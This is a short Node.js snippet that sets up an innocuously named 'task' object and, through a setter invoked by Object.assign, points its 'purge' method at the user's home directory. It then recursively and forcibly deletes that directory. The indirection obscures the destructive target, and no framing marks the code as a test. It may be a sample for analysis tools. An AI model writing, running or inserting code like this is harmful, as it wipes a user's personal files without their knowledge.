const fs = require('fs');
const os = require('os');

const task = {
  set out(v) {
    this.dest = v;
  },
  purge() {
    fs.rmSync(this.dest, { recursive: true, force: true });
  },
};

Object.assign(task, { out: os.homedir() });
task.purge();
